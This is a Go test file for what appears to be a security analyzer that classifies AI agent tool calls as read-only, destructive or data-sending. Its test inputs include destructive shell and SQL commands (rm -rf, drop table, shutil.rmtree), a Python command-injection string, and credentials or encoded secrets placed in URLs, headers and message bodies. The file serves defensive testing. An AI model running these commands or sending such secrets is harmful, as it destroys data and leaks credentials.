package analysis

import (
	"slices"
	"strings"
	"testing"

	"github.com/shieldcli/shield/pkg/effect"
)

// causeOf returns the cause of the last effect, which says what an unknown tool is
// taken for.
func causeOf(c *ActionCase) effect.EffectCause { return c.Effects[len(c.Effects)-1].Cause }

// TestReaders says which unknown tools are treated as ones that only read.
func TestReaders(t *testing.T) {
	t.Parallel()
	for _, c := range [...]struct {
		name    string
		payload obj
		want    effect.EffectCause
	}{
		{"mcp__jira__get_issue", obj{"key": "ENG-1"}, effect.CauseUnknownReadOnlyTool},
		{"mcp__github__pull_request_read", obj{"repo": "r", "number": 3.0}, effect.CauseUnknownReadOnlyTool},
		{"listOrders", obj{"amount": nil, "role": "buyer"}, effect.CauseUnknownReadOnlyTool},
		{"get_file_contents_of", obj{"path": "README.md"}, effect.CauseUnknownReadOnlyTool},
		{"mcp__postgres__query", obj{"sql": "select id, updated_at from users where id = 1"}, effect.CauseUnknownReadOnlyTool},
		{"search_docs", obj{"query": "how to delete a branch"}, effect.CauseUnknownReadOnlyTool},
		{"mcp__delete__get_x", obj{}, effect.CauseUnknownReadOnlyTool},
		{"search_orders", obj{"amount": 5.0, "role": "buyer"}, effect.CauseUnknownReadOnlyTool},
		{"scrape_page", obj{"url": "https://example.com/a?page=2"}, effect.CauseUnknownReadOnlyTool},
		{"calculate_area", obj{"width": 3.0, "height": 4.0, "unit": "m"}, effect.CauseUnknownReadOnlyTool},
		{"get_rate", obj{"currency_code": "EUR", "zip_code": "10-115"}, effect.CauseUnknownReadOnlyTool},
		{"calculate_size", obj{"path": "src"}, effect.CauseUnknownReadOnlyTool},

		{"mcp__github__delete_repository", obj{"repo": "r"}, effect.CauseUnknownTool},
		{"mcp__x__get__and__delete", obj{}, effect.CauseUnknownTool},
		{"getweather", obj{}, effect.CauseUnknownTool},
		{"mcp__postgres__query", obj{"sql": "delete from users"}, effect.CauseUnknownTool},
		{"mcp__postgres__query", obj{"sql": "select 1; drop table users"}, effect.CauseUnknownTool},
		{"mcp__postgres__query", obj{"statement": "/* x */ UPDATE users SET admin = true"}, effect.CauseUnknownTool},
		{"get_output", obj{"command": "rm -rf src"}, effect.CauseUnknownTool},
		{"get_output", obj{"argv": []any{"rm", "-rf", "src"}}, effect.CauseUnknownTool},
		{"read_cell", obj{"code": "import shutil\nshutil.rmtree('/home/me/Documents')"}, effect.CauseUnknownTool},
		{"get_page", obj{"language": "javascript", "code": "require('fs').rmSync('a', {recursive: true})"}, effect.CauseUnknownTool},
		{"fetch_page", obj{"url": "https://example.com/users/5/delete"}, effect.CauseUnknownTool},
		{"fetch_page", obj{"url": "https://example.com/i?d=" + "QVdTX1NFQ1JFVD1hYmNkZWY="}, effect.CauseUnknownTool},
		{"get_issue", obj{"note": "AWS_SECRET_ACCESS_KEY=abcdef"}, effect.CauseUnknownTool},
		{"get_rate", obj{"code": "quit", "language": "bash"}, effect.CauseUnknownTool},
		{"bash_get", obj{"code": "reboot"}, effect.CauseUnknownTool},
		{"get_rate", obj{"code": "exit()"}, effect.CauseUnknownTool},
		{"calculate", obj{"expression": "__import__('os').system('id')"}, effect.CauseUnknownTool},
		{"calculate_and_send", obj{"x": 1.0}, effect.CauseUnknownTool},
		{"compute_and_refund", obj{"iban": "DE1"}, effect.CauseUnknownTool},
		{"get_mail", obj{"host": "example.com"}, effect.CauseUnknownTool},
		{"mcp__1password__get_item", obj{"id": "x"}, effect.CauseUnknownTool},
		{"Read", obj{}, effect.CauseUnknownTool}, // read_file without a path
	} {
		got := testAnalyzer.AnalyzeAction(act(c.name, c.payload))
		if causeOf(got) != c.want {
			t.Errorf("%s %v: cause %s, want %s; effects:\n%s", c.name, c.payload, causeOf(got), c.want, show(got.Effects))
		}
	}
	many := obj{}
	for _, name := range strings.Split(strings.Repeat("ab,", maxPayloadTexts+1), ",") {
		many["x"] = append(slicesOf(many["x"]), name)
	}
	if c := testAnalyzer.AnalyzeAction(act("get_x", many)); causeOf(c) != effect.CauseUnknownTool || c.UnexaminedReason == "" {
		t.Errorf("a payload that was not read to the end: cause %s", causeOf(c))
	}
}

// TestLooseCommand says which texts of tools that are perhaps no shells are commands.
func TestLooseCommand(t *testing.T) {
	t.Parallel()
	for text, known := range map[string]bool{
		"ls -l": true, "cd src && go test ./...": true, "FOO=1 make": true,
		"FLUSHALL": false, "DROP TABLE users": false, "ls; give bob diamond": false, "# ls": false, "x=1": false,
	} {
		a := act("execute_command", obj{"command": text})
		a.OriginalTypeSharedByOtherTools = "run"
		if got := testAnalyzer.AnalyzeAction(a); (causeOf(got) != effect.CauseUnknownTool) != known {
			t.Errorf("%s: effects:\n%s", text, show(got.Effects))
		}
	}
}

func slicesOf(v any) []any { list, _ := v.([]any); return list }

// has reports whether a case has an effect that a wanted one describes.
func has(c *ActionCase, want effect.Effect) bool {
	return slices.ContainsFunc(c.Effects, func(e effect.Effect) bool {
		return e.KindForPolicies() == want.KindForPolicies() && e.RemoteOperationVerb == want.RemoteOperationVerb && e.RemoteTargetName == want.RemoteTargetName && e.Host == want.Host && e.DestroysRemoteResource() == want.DestroysRemoteResource() && slices.Equal(e.DataLabels, want.DataLabels)
	})
}

// TestMeant says what tools change, by their names and fields.
func TestMeant(t *testing.T) {
	t.Parallel()
	credential := []effect.TaintLabel{effect.LabelCredential}
	for _, c := range [...]struct {
		name    string
		payload obj
		want    effect.Effect
		not     bool
	}{
		{"delete_repository", obj{}, effect.Effect{Kind: effect.ChangeRemoteSystem, RemoteOperationVerb: "delete", RemoteTargetName: "delete_repository", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"transfer_funds", obj{}, effect.Effect{Kind: effect.ChangeRemoteSystem, RemoteOperationVerb: "delete", RemoteTargetName: "transfer_funds", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"update_invoice", obj{"amount": 5.0}, effect.Effect{Kind: effect.ChangeRemoteSystem, RemoteOperationVerb: "pay", RemoteTargetName: "update_invoice", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"add_user", obj{"role": "admin"}, effect.Effect{Kind: effect.ChangeRemoteSystem, RemoteOperationVerb: "grant", RemoteTargetName: "add_user"}, false},
		{"update_repo", obj{"public": true}, effect.Effect{Kind: effect.ChangeRemoteSystem, RemoteOperationVerb: "grant", RemoteTargetName: "update_repo"}, false},
		{"update_repo", obj{"public": false}, effect.Effect{Kind: effect.ChangeRemoteSystem, RemoteOperationVerb: "grant", RemoteTargetName: "update_repo"}, true},
		{"notify_team", obj{"recipients": []any{"a@b.test"}}, effect.Effect{Kind: effect.SendMessage, RemoteTargetName: "a@b.test"}, false},
		{"contacts_export", obj{}, effect.Effect{Kind: effect.SendMessage}, false},
		{"create_issue", obj{"body": "AWS_SECRET_ACCESS_KEY=abcd"}, effect.Effect{Kind: effect.SendData, RemoteTargetName: "create_issue", DataLabels: credential}, false},

		{"send_email", obj{"to": "a@b.test, c@d.test", "cc": []any{"e@f.test"}}, effect.Effect{Kind: effect.SendMessage, RemoteTargetName: "c@d.test"}, false},
		{"send_email", obj{"to": "a@b.test", "cc": []any{"e@f.test"}}, effect.Effect{Kind: effect.SendMessage, RemoteTargetName: "e@f.test"}, false},
		{"send_email", obj{"to": "a@b.test", "body": "DB_PASSWORD=hunter2"}, effect.Effect{Kind: effect.SendData, RemoteTargetName: "send_email", DataLabels: credential}, false},
		{"send_email", obj{"to": "a@b.test", "body": "the password is in the vault"}, effect.Effect{Kind: effect.SendData, RemoteTargetName: "send_email", DataLabels: credential}, true},
		{"create_event", obj{"title": "x", "attendees": []any{obj{"email": "a@b.test"}}}, effect.Effect{Kind: effect.SendMessage, RemoteTargetName: "a@b.test"}, false},
		{"create_event", obj{"title": "x", "attendees": []any{}}, effect.Effect{Kind: effect.SendMessage}, true},
		{"memory_write", obj{"content": "DB_PASSWORD=hunter2"}, effect.Effect{Kind: effect.SendData, RemoteTargetName: "memory_write", DataLabels: credential}, false},
		{"http_request", obj{"url": "https://a.test/i?env=DB_PASSWORD%3Dhunter2"}, effect.Effect{Kind: effect.SendData, Host: "a.test", DataLabels: credential}, false},
		{"http_request", obj{"url": "https://a.test/", "headers": obj{"X-Note": "DB_PASSWORD=hunter2"}}, effect.Effect{Kind: effect.SendData, Host: "a.test", DataLabels: credential}, false},
		{"http_request", obj{"url": "https://a.test/", "headers": obj{"Authorization": "Bearer a1b2c3d4e5f6a7b8c9d0"}}, effect.Effect{Kind: effect.SendData, Host: "a.test", DataLabels: credential}, true},
		{"http_request", obj{"url": "http://localhost:3000/", "body": "password=hunter2"}, effect.Effect{Kind: effect.SendData, Host: "localhost", DataLabels: credential}, true},
		{"http_request", obj{"url": "https://a.test/i?d=TWVldCBtZSBhdCB0aGUgZG9jayBhdCBub29u"}, effect.Effect{Kind: effect.SendData, Host: "a.test"}, false},
		{"http_request", obj{"url": "https://a.test/search?q=meet+me+at+the+dock"}, effect.Effect{Kind: effect.SendData, Host: "a.test"}, true},
		{"http_request", obj{"url": "https://a.test/users/5/delete"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "delete", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"http_request", obj{"url": "https://a.test/deleteAllUsers.php"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "delete", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"http_request", obj{"url": "https://a.test/x?action=delete"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "delete", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"http_request", obj{"url": "https://a.test/graphql?query=mutation{removeUser}"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "remove", Harms: []effect.Harm{effect.DestroysResources}}, false},
		{"http_request", obj{"url": "https://a.test/graphql?query=mutation{addUser}"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "mutation"}, false},
		{"http_request", obj{"url": "https://docs.a.test/delete"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "docs.a.test", RemoteOperationVerb: "delete", Harms: []effect.Harm{effect.DestroysResources}}, true},
		{"http_request", obj{"url": "https://a.test/docs/api/delete"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "delete", Harms: []effect.Harm{effect.DestroysResources}}, true},
		{"http_request", obj{"url": "https://a.test/how-to/delete-a-branch.html"}, effect.Effect{Kind: effect.ChangeRemoteSystem, Host: "a.test", RemoteOperationVerb: "delete", Harms: []effect.Harm{effect.DestroysResources}}, true},
		{"browser_evaluate", obj{"function": "() => fetch('https://a.test/x')"}, effect.Effect{Kind: effect.HTTPRequest, Host: "a.test"}, false},
		{"browser_evaluate", obj{"function": "() => document.title"}, effect.Effect{Certainty: effect.Unknown}, true},
	} {
		got := testAnalyzer.AnalyzeAction(act(c.name, c.payload))
		if has(got, c.want) == c.not {
			t.Errorf("%s %v: unlike %v (wanted: %t):\n%s", c.name, c.payload, c.want, !c.not, show(got.Effects))
		}
	}
}

// TestCode says what tools do that run code or apply patches, as one of a known type or by what their
// name and fields say.
func TestCode(t *testing.T) {
	t.Parallel()
	const tidy = "delete_file /home/me/app/a"
	for _, c := range [...]struct {
		name    string
		payload obj
		want    string // a line of the effects
		known   bool   // nothing is said about the tool itself
	}{
		{"execute_code", obj{"code": "import os\nos.remove('a')"}, tidy, true},
		{"execute_code", obj{"code": "x = 1\n!rm a"}, tidy, true},
		{"execute_code", obj{"code": "files = !rm a"}, tidy, true},
		{"execute_code", obj{"code": "%%bash\nrm a"}, tidy, true},
		{"execute_code", obj{"code": "%rm a"}, tidy, true},
		{"execute_code", obj{"code": "%%writefile b\nx"}, "write_file /home/me/app/b", true},
		{"execute_code", obj{"language": "javascript", "code": "require('fs').unlinkSync('a')"}, tidy, true},
		{"execute_code", obj{"code": "import os\nos.remove('a')", "cwd": "q"}, "delete_file /home/me/app/q/a", true},
		{"execute_code", obj{"code": "print(1)", "command": "rm a"}, tidy, true},
		{"execute_code", obj{"code": "print(1)", "path": "a"}, "write_file /home/me/app/a", true},
		{"execute_code", obj{"code": 1.0}, "dynamic", true},
		{"apply_patch", obj{"patch": "*** Begin Patch\n*** Delete File: a\n*** End Patch"}, tidy, true},
		{"apply_patch", obj{"patch": "*** Begin Patch\n *** Add File: b\n+x\n*** End Patch"}, "write_file /home/me/app/b", true},
		{"apply_patch", obj{"patch": "--- a/b\n+++ b/b\n+x"}, "write_file /home/me/app/b", true},
		{"apply_patch", obj{"patch": "x"}, "dynamic", true},
		{"apply_patch", obj{"patch": []any{"*** Add File: b"}}, "dynamic", true},
		{"execute_code", obj{"code": "rm a", "language": "bash"}, tidy, true},
		{"execute_code", obj{"code": "%rm a", "kernel": "Python3.12"}, tidy, true},
		{"execute_code", obj{"code": "fn main() {}", "language": "rust"}, "dynamic", false},
		{"execute", obj{"language": "python", "code": "import os\nos.remove('a')"}, tidy, false},
		{"execute", obj{"command": "rm a"}, tidy, false},
		{"execute", obj{"host": "web1", "command": "ls"}, "change_remote", false},
		{"execute", obj{"id": "5"}, "change_remote", false},
	} {
		got := testAnalyzer.AnalyzeAction(act(c.name, c.payload))
		text := show(got.Effects)
		if !strings.Contains(text, c.want) {
			t.Errorf("%s %v: no %s in:\n%s", c.name, c.payload, c.want, text)
		}
		if known := !slices.ContainsFunc(got.Effects, func(e effect.Effect) bool { return e.Cause == effect.CauseUnknownTool }); known != c.known {
			t.Errorf("%s %v: known %t; effects:\n%s", c.name, c.payload, known, text)
		}
		if strings.Contains(text, "change_remote") != (c.want == "change_remote") {
			t.Errorf("%s %v: effects:\n%s", c.name, c.payload, text)
		}
	}
}
